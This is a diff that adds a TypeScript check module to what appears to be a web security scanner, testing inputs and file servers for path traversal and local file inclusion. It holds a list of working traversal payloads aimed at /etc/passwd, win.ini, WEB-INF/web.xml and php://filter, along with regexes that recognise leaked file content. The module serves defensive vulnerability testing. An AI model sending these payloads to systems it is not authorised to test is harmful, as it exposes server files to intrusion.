@@ -1,0 +1,137 @@
+// Path traversal and local files: a value leads to a file of the system whose content is known.
+
+import { readJson } from '../json-leaves.ts'
+import { quietly, takesText, textValue } from '../probing.ts'
+import type { Context, Exchange, Operation, Point, PointCheck, TargetCheck } from '../types.ts'
+
+const UP = '../'.repeat(8)
+
+type Reading = { value: string; wrong: string; isRaw?: boolean; shows: (text: string) => string | null }
+
+/** Lines that such a file always has. */
+export const passwdIn = (text: string): string | null => /root:[^:\n]{0,60}:0:0:[^\n<"]{0,80}/.exec(text)?.[0] ?? null
+const iniIn = (text: string): string | null =>
+  /; for 16-bit app support|\[fonts\][^[]{0,200}\[extensions\]/i.exec(text)?.[0] ?? null
+const webXmlIn = (text: string): string | null => /<web-app[\s>][^<]{0,300}/.exec(text)?.[0] ?? null
+const base64PhpIn = (text: string): string | null => {
+  const found = /(?:PD9waHA|PCFET0NUWVBF|PGh0bWw)[A-Za-z0-9+/]{40,}={0,2}/.exec(text)?.[0] ?? null
+  return found
+}
+
+const unix = (value: string, isRaw = false): Reading => ({
+  value,
+  wrong: value.replace('passwd', 'pazzwd'),
+  isRaw,
+  shows: passwdIn,
+})
+
+function readings(text: string): Reading[] {
+  const extension = /\.\w{1,5}$/.exec(text)?.[0] ?? '.png'
+  const folder = /^(.*\/)[^/]*$/.exec(text)?.[1] ?? ''
+  return [
+    unix(`${UP}etc/passwd`),
+    unix('/etc/passwd'),
+    unix(`....//....//....//....//....//....//....//....//etc/passwd`),
+    unix(`${UP}etc/passwd\u0000${extension}`),
+    unix('file:///etc/passwd'),
+    unix(`..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd`, true),
+    unix(`..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd`),
+    ...(folder ? [unix(`${folder}${UP}etc/passwd`)] : []),
+    unix(`/var/www/${UP}etc/passwd`),
+    { value: `${'..\\'.repeat(8)}windows\\win.ini`, wrong: `${'..\\'.repeat(8)}windows\\wim.ini`, shows: iniIn },
+    { value: 'C:\\Windows\\win.ini', wrong: 'C:\\Windows\\wim.ini', shows: iniIn },
+    { value: '../../WEB-INF/web.xml', wrong: '../../WEB-INF/wed.xml', shows: webXmlIn },
+    {
+      value: 'php://filter/convert.base64-encode/resource=index.php',
+      wrong: 'php://filter/convert.base64-encode/resource=indez.php',
+      shows: base64PhpIn,
+    },
+  ]
+}
+
+export const files: PointCheck = {
+  kind: 'point',
+  id: 'path-traversal',
+  title: 'Files of the system can be read',
+  cwes: [22],
+  severity: 'HIGH',
+  solution: 'Resolve the path and refuse what is not below the folder meant; better, take names from a list.',
+  profile: 'BALANCED',
+  accepts: takesText,
+  async probe(point, operation, context) {
+    for (const reading of readings(textValue(point))) {
+      const shown = await read(reading, point, operation, context)
+      if (!shown) continue
+      const isInclude = /php:\/\//.test(reading.value)
+      const isUrl = reading.value.startsWith('file:')
+      return {
+        cwes: isInclude ? [98, 22] : isUrl ? [918, 22] : undefined,
+        detail: `The value ${reading.value.replaceAll('\u0000', '%00')} leads to the content of that file; a name that is wrong by a letter does not.`,
+        proof: [shown.proof],
+        exchange: shown.exchange,
+      }
+    }
+    return null
+  },
+}
+
+async function read(
+  { value, wrong, isRaw, shows }: Reading,
+  point: Point,
+  operation: Operation,
+  context: Context,
+): Promise<{ exchange: Exchange; proof: string } | null> {
+  const exchange = await context.attempt(operation, [{ point, value, isRaw }])
+  const proof = exchange && contentIn(exchange, shows)
+  if (!exchange || !proof) return null
+  const other = await context.attempt(operation, [{ point, value: wrong, isRaw }])
+  return other && contentIn(other, shows) ? null : { exchange, proof }
+}
+
+/** In the text, or in what it holds as base64. */
+function contentIn({ text }: Exchange, shows: Reading['shows']): string | null {
+  const plain = shows(text)
+  if (plain) return plain
+  const json = readJson(text)
+  const encoded = json === undefined && !/base64/.test(text) ? [] : (text.match(/[A-Za-z0-9+/]{60,40000}={0,2}/g) ?? [])
+  return encoded.slice(0, 5).some((one) => shows(Buffer.from(one, 'base64').toString('latin1')))
+    ? (encoded[0]?.slice(0, 80) ?? null)
+    : null
+}
+
+/** A server of files that goes above its folder, wherever the folder is. */
+export const fileServer: TargetCheck = {
+  kind: 'target',
+  id: 'file-server-traversal',
+  title: 'The server hands out files above its folder',
+  cwes: [22],
+  severity: 'HIGH',
+  solution: 'Decode and resolve the path before it is compared with the folder.',
+  profile: 'BALANCED',
+  async *probe(context) {
+    const folders = new Set(['/'])
+    for (const { path } of context.operations) {
+      const folder = /^((?:\/[^/{}?]{1,60}){1,3})\//.exec(path)?.[1]
+      if (folder && folders.size < 12) folders.add(`${folder}/`)
+    }
+    for (const folder of [...folders, '/static/', '/assets/', '/public/', '/files/', '/images/']) {
+      for (const step of ['../', '..%2f', '%2e%2e/', '%2e%2e%2f', '..%5c', '.%2e/', '//../']) {
+        const url = `${context.target.origin}${folder}${step.repeat(8)}etc/passwd`
+        const ask = (address: string) =>
+          context.send({ method: 'GET', url: address, headers: [['Host', context.target.host]], body: null })
+        const exchange = await quietly(ask(url))
+        const proof = exchange && passwdIn(exchange.text)
+        if (!exchange || !proof) continue
+        const wrong = await quietly(ask(url.replace('passwd', 'pazzwd')))
+        if (wrong && passwdIn(wrong.text)) continue
+        yield {
+          detail: `${folder}${step}… leads to a file of the system.`,
+          proof: [proof],
+          exchange,
+          cause: `${context.target.origin}${folder}`,
+        }
+        break
+      }
+    }
+  },
+}
